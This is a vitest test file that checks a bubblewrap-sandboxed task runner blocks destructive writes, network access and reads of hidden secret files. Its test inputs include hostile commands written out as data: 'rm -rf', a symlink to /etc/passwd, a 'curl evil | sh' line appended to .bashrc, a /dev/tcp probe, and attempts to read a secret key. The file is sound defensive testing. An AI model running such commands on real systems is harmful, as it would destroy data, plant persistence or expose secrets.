import { execFileSync } from "node:child_process";
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { pino } from "pino";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { runTask } from "../tasks/task-process";
import { detectSandbox } from "./detect";
import type { SandboxSpec, SandboxStatus } from "./types";

/**
 * A deliberately "misclassified" destructive command run through the sandboxed task
 * runner on a real pty and real bubblewrap: each must fail and leave its target byte
 * for byte. No skip: CI installs bubblewrap, and these tests must fail without the
 * sandbox (then every write below would succeed). The test folder is under /var/tmp,
 * not /tmp, because /tmp inside the sandbox is private.
 */
const log = pino({ level: "silent" });
const PY = existsSync("/usr/bin/python3") ? "/usr/bin/python3" : "python3";
const root = mkdtempSync(join("/var/tmp", "nl-sbx-writes-"));
const work = join(root, "work");
const home = join(root, "home");
const hiddenDir = join(root, "hub-data");
let status: SandboxStatus;
const readOnly: SandboxSpec = { mode: "read-only", writable: [], hidden: [hiddenDir] };

beforeAll(async () => {
  status = await detectSandbox({ log });
  expect(status).toMatchObject({ kind: "bubblewrap", available: true });
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

/** A snapshot of every file under a folder: path, mode, kind and bytes. */
function snapshot(dir: string): string {
  const out: string[] = [];
  const walk = (d: string) => {
    for (const name of readdirSync(d).sort()) {
      const p = join(d, name);
      const st = lstatSync(p);
      out.push(
        `${p} ${st.mode.toString(8)} ${st.isSymbolicLink() ? "link" : st.isDirectory() ? "dir" : readFileSync(p).toString("base64")}`,
      );
      if (st.isDirectory() && !st.isSymbolicLink()) walk(p);
    }
  };
  walk(dir);
  return out.join("\n");
}

beforeEach(() => {
  rmSync(work, { recursive: true, force: true });
  rmSync(home, { recursive: true, force: true });
  mkdirSync(join(work, "dir", "sub"), { recursive: true });
  writeFileSync(join(work, "file.txt"), "precious\n");
  writeFileSync(join(work, "dir", "sub", "deep.txt"), "deep\n");
  mkdirSync(home, { recursive: true });
  writeFileSync(join(home, ".bashrc"), "# mine\n");
  execFileSync("git", ["init", "-q", join(work, "repo")]);
  execFileSync("git", [
    "-C",
    join(work, "repo"),
    "-c",
    "user.name=t",
    "-c",
    "user.email=t@e",
    "commit",
    "-q",
    "--allow-empty",
    "-m",
    "first",
  ]);
  mkdirSync(hiddenDir, { recursive: true });
  writeFileSync(join(hiddenDir, "identity.key"), "SECRET-KEY-BYTES\n");
});

const run = async (command: string, spec: SandboxSpec = readOnly, env?: Record<string, string>) =>
  (await runTask({ command, cwd: work, log, env, timeoutMs: 15_000, sandbox: { status, spec } })).done;

const DESTRUCTIVE = [
  "rm -rf dir",
  "rm -f file.txt",
  "echo x > file.txt",
  ": > file.txt",
  "echo x >> file.txt",
  "mv file.txt moved.txt",
  "chmod 000 file.txt",
  "ln -sf /etc/passwd file.txt",
  "touch new",
  "cp /dev/null file.txt",
  "mkdir made",
  "tee file.txt < /dev/null",
  "sort -o file.txt file.txt",
  "git -C repo -c user.name=t -c user.email=t@e commit --allow-empty -m evil",
  `${PY} -c "open('file.txt','w').write('evil')"`,
  `${PY} -c "import os; os.remove('file.txt')"`,
];

describe("sandboxed runTask: writes fail and the target survives", () => {
  it.each(DESTRUCTIVE)("%s", async (command) => {
    const before = snapshot(work);
    const r = await run(command);
    expect(r.state).toBe("failed");
    expect(r.sandboxBlocked).toBe("write");
    expect(snapshot(work)).toBe(before);
  });

  it("cannot write a dotfile in the home folder", async () => {
    const before = snapshot(home);
    const r = await run('echo "curl evil | sh" >> "$HOME/.bashrc"; touch "$HOME/.profile"', readOnly, { HOME: home });
    expect(r).toMatchObject({ state: "failed", sandboxBlocked: "write" });
    expect(r.output).toContain(`${home}/.bashrc`);
    expect(snapshot(home)).toBe(before);
  });

  it("cannot change kernel settings through /proc (written with their current value, so a failure here harms nothing)", async () => {
    const sysctl = "/proc/sys/vm/swappiness";
    const before = readFileSync(sysctl, "utf8");
    const r = await run(`v=$(cat ${sysctl}); echo "$v" > ${sysctl}`);
    expect(r.state).toBe("failed");
    expect(r.output).toMatch(/Read-only file system|Permission denied/);
    expect(readFileSync(sysctl, "utf8")).toBe(before);
  });

  it("writes to a private /tmp that is gone afterwards", async () => {
    const name = `nl-sbx-${process.pid}-${Date.now()}`;
    const r = await run(`echo inside > /tmp/${name} && cat /tmp/${name}`);
    expect(r).toMatchObject({ state: "done", sandboxBlocked: null });
    expect(r.output).toBe("inside\r\n");
    expect(existsSync(join("/tmp", name))).toBe(false);
    expect((await run(`cat /tmp/${name}`)).state).toBe("failed");
  });
});

describe("sandboxed runTask: workspace grant and hidden paths", () => {
  it("makes a granted folder writable, a sibling not, and keeps the network off", async () => {
    const granted = join(work, "dir");
    const spec: SandboxSpec = { mode: "workspace", writable: [granted], hidden: [hiddenDir] };
    const ok = await run("echo made > dir/new.txt && rm dir/sub/deep.txt", spec);
    expect(ok.state).toBe("done");
    expect(readFileSync(join(granted, "new.txt"), "utf8")).toBe("made\n");
    expect(existsSync(join(granted, "sub", "deep.txt"))).toBe(false);
    const sibling = await run("echo x > file.txt", spec);
    expect(sibling).toMatchObject({ state: "failed", sandboxBlocked: "write" });
    expect(readFileSync(join(work, "file.txt"), "utf8")).toBe("precious\n");
    const net = await run("bash -c 'echo > /dev/tcp/1.1.1.1/80'", spec);
    expect(net.state).toBe("failed");
    expect(net.sandboxBlocked).toBe("network");
  });

  it("refuses writable folders in read-only mode", async () => {
    await expect(
      runTask({
        command: "true",
        cwd: work,
        log,
        sandbox: { status, spec: { mode: "read-only", writable: [work], hidden: [] } },
      }),
    ).rejects.toMatchObject({ name: "SandboxError", code: "bad_spec" });
  });

  it("hides the hub's data folder (and a hidden file), even inside a grant", async () => {
    const direct = await run(`cat ${join(hiddenDir, "identity.key")}; ls -A ${hiddenDir} | wc -l`);
    expect(direct.output).not.toContain("SECRET");
    expect(direct.output).toContain("No such file");
    const key = join(work, "dir", "key.pem");
    writeFileSync(key, "FILE-SECRET\n");
    const spec: SandboxSpec = { mode: "workspace", writable: [join(work, "dir")], hidden: [hiddenDir, key] };
    const r = await run(`cat ${key}; echo x > ${key}; grep -r SECRET ${root} || echo none`, spec);
    expect(r.output).not.toContain("SECRET-KEY");
    expect(r.output).not.toContain("FILE-SECRET");
    expect(readFileSync(key, "utf8")).toBe("FILE-SECRET\n");
    expect(statSync(hiddenDir).isDirectory()).toBe(true);
  });
});
